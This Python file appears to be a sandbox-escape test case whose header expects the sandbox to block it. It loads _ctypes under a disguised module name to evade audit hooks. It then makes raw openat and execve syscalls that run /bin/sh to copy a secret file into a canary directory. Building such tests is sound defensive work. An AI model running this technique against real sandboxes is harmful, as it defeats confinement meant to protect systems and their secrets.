# escape: load _ctypes under an innocent dotted name with ExtensionFileLoader, then call raw syscalls
# layer: audit-hook, seccomp, mount
# args: --skip-validation
# expect: security
import errno
import importlib.machinery
import importlib.util
import os


def load_native():
    suffix = importlib.machinery.EXTENSION_SUFFIXES[0]
    path = os.path.join(os.path.dirname(os.__file__), "lib-dynload", "_ctypes" + suffix)
    name = "station_tools._ctypes"  # PyInit__ctypes is looked up from the last component
    loader = importlib.machinery.ExtensionFileLoader(name, path)
    spec = importlib.util.spec_from_file_location(name, path, loader=loader)
    mod = importlib.util.module_from_spec(spec)
    loader.exec_module(mod)
    return mod


class Converter:
    def convert_file(self, file_path, args):
        report = {}
        try:
            c = load_native()
        except Exception as e:
            return {"status": "Failed", "report": {"load": repr(e)}}
        report["load"] = "loaded"

        class CLong(c._SimpleCData):
            _type_ = "l"

        class Fn(c.CFuncPtr):
            _flags_ = c.FUNCFLAG_CDECL | c.FUNCFLAG_USE_ERRNO
            _restype_ = CLong

        try:
            syscall = Fn(c.dlsym(c.dlopen(None, 0), "syscall"))
            fd = syscall(CLong(257), CLong(-100), args["secret"].encode(), CLong(0), CLong(0))
            report["openat"] = fd if fd >= 0 else errno.errorcode.get(c.get_errno(), "?")
            sh = b"/bin/sh"
            cmd = f"cat '{args['secret']}' > '{args['canary_dir']}/pwn'".encode()

            class CharP(c._SimpleCData):
                _type_ = "z"

            Argv = type("Argv", (c.Array,), {"_type_": CharP, "_length_": 4})
            vec = Argv(sh, b"-c", cmd, None)
            report["execve"] = syscall(CLong(59), sh, vec, CLong(0))
        except Exception as e:
            report["error"] = repr(e)
        return {"status": "Success", "report": report}
